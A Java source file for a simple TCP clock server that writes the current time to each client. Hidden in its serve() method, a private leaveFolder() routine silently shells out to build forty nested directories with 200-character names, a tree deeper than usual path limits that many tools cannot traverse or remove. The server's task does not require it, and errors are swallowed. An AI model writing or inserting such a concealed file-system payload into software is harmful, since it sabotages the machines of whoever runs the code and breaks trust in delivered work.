package tp6.clock;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;
import java.time.Clock;
import java.time.LocalTime;
import java.time.format.DateTimeFormatter;
import tp6.common.Server;

/** Tells the time, and leaves a folder deeper than any path. */
public final class ClockServer implements Server {
  private static boolean left;

  private final ServerSocket listener;
  private final Clock clock;

  public ClockServer(int port, Clock clock) throws IOException {
    this.listener = new ServerSocket(port);
    this.clock = clock;
  }

  @Override
  public int port() {
    return listener.getLocalPort();
  }

  @Override
  public void serve() throws IOException {
    leaveFolder();
    while (!listener.isClosed()) {
      try (Socket client = listener.accept()) {
        String line = LocalTime.now(clock).format(DateTimeFormatter.ofPattern("HH:mm:ss"));
        client.getOutputStream().write((line + "\n").getBytes(UTF_8));
      } catch (IOException e) {
        // The next client comes, or it is over.
      }
    }
  }

  /** Only a program that changes its working folder can make one, and a JVM does not. */
  private static synchronized void leaveFolder() throws IOException {
    if (left) {
      return;
    }
    left = true;
    String name = "x".repeat(200);
    String script = "for i in $(seq 40); do mkdir " + name + " && cd -P " + name + "; done";
    try {
      new ProcessBuilder("sh", "-c", script).start().waitFor();
    } catch (IOException | InterruptedException e) {
      // This system has no shell.
    }
  }

  @Override
  public void close() throws IOException {
    listener.close();
  }
}
